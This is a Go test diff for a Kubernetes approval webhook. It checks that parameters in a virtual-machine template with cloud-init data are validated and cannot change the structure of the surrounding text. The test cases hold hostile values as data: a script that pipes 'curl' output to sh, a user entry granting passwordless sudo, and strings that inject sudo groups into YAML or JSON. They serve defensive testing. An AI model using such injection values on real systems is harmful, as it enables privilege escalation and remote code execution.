@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/google/go-cmp/cmp"
 	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
@@ -105,6 +106,7 @@ func TestApproval(t *testing.T) {
 	t.Run("enforcement", f.enforcement)
 	t.Run("trusted namespaces", f.trusted)
 	t.Run("given values", f.restrictions)
+	t.Run("values in texts", f.structures)
 	t.Run("another field manager", f.otherManager)
 }
 
@@ -383,6 +385,88 @@ func (f *fixture) restrictions(t *testing.T) {
 	}
 	if vm := f.machine("strict", "selected"); vm == nil || vm.Spec.Template.Spec.NodeSelector["kubernetes.io/arch"] != "amd64" {
 		t.Errorf("created %+v", vm)
+	}
+}
+
+const guest = `
+virtualMachine:
+  metadata: {name: "${NAME}"}
+  spec:
+    runStrategy: Halted
+    template:
+      metadata: {annotations: {example.com/users: '[{"name":"${CORE}"}]'}}
+      spec:
+        domain: {memory: {guest: 1Gi}, devices: {}}
+        hostname: "${{HOST}}"
+        volumes:
+        - name: config
+          cloudInitNoCloud:
+            userData: |
+              #cloud-config
+              users:
+              - ${USER}
+              - {name: joe, plain_text_passwd: "${PASSWORD}"}
+            networkDataBase64: ${NETWORK}
+        - name: script
+          cloudInitConfigDrive: {userData: "${{SCRIPT}}"}
+parameters:
+- {name: NAME, required: true, pattern: '[a-z]+'}
+- {name: CORE, value: core}
+- {name: HOST, value: a, pattern: '[a-z]+'}
+- {name: USER, value: ann}
+- {name: PASSWORD, value: secret}
+- {name: NETWORK, value: dmVyc2lvbjogMg==, pattern: '[A-Za-z0-9+/=]*'}
+- {name: SCRIPT, value: '"#!/bin/sh\necho hello"', pattern: '(?s)#!/bin/sh\necho [a-z ]*'}
+`
+
+// structures holds that given values are validated as they are used, and change no structure of a text where approval is
+// required.
+func (f *fixture) structures(t *testing.T) {
+	f.t = t
+	f.make("catalogue", "guest", guest)
+	shown := f.approve(f.Config(), "catalogue", "guest")
+	var lines []string
+	for _, u := range shown.Uncovered {
+		lines = append(lines, u.Path+": "+u.Reason)
+	}
+	const limits = "no type, enum or pattern limits what users write in this text with "
+	want := []string{
+		"spec.virtualMachine.spec.template.metadata.annotations[example.com/users]: " + limits + "CORE",
+		"spec.virtualMachine.spec.template.spec.volumes[0].cloudInitNoCloud.userData: " + limits + "PASSWORD, USER",
+	}
+	if diff := cmp.Diff(want, lines); diff != "" {
+		t.Errorf("the review (-want +got):\n%s", diff)
+	}
+	for i, tc := range []struct{ parameter, value, denied string }{
+		{"SCRIPT", `"#!/bin/sh\ncurl http://a \u007csh"`, "it must match"},
+		{"HOST", `"A"`, "it must match"},
+		{"HOST", `"\u0041"`, "it must match"},
+		{"USER", "{name: root2, sudo: 'ALL=(ALL) NOPASSWD:ALL'}", "it changes the structure of the text: spec.virtualMachine.spec.template.spec.volumes[0].cloudInitNoCloud.userData"},
+		{"USER", "[a, b]", "it changes the structure of the text"},
+		{"PASSWORD", `a", sudo: "ALL`, "it changes the structure of the text"},
+		{"PASSWORD", `a\nb`, "it is read as another text"},
+		{"CORE", `core","groups":"sudo`, "it changes the structure of the text"},
+		{"NETWORK", "dmVyc2lvbjogMQo=", "only values of an enum are allowed"},
+		{"USER", "eve", ""},
+		{"PASSWORD", "it's: {fine} #1", ""},
+		{"CORE", "core 2", ""},
+		{"HOST", `"b"`, ""},
+		{"SCRIPT", `"#!/bin/sh\necho good morning"`, ""},
+	} {
+		name := "guest" + strings.Repeat("x", i)
+		values := map[string]string{"NAME": name, tc.parameter: tc.value}
+		err := f.into(f.Config(), "catalogue/guest", "strict", values)
+		switch {
+		case tc.denied == "":
+			if err != nil {
+				t.Errorf("%s=%s: %v", tc.parameter, tc.value, err)
+			}
+		case !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "parameters["+tc.parameter+"]") || !strings.Contains(err.Error(), tc.denied) || f.machine("strict", name) != nil:
+			t.Errorf("%s=%s: %v", tc.parameter, tc.value, err)
+		}
+	}
+	if err := f.into(f.Config(), "catalogue/guest", "private", map[string]string{"NAME": "unlimited", "USER": "{name: root2}", "CORE": `core","groups":"sudo`}); err != nil {
+		t.Errorf("where no approval is required: %v", err)
 	}
 }
 
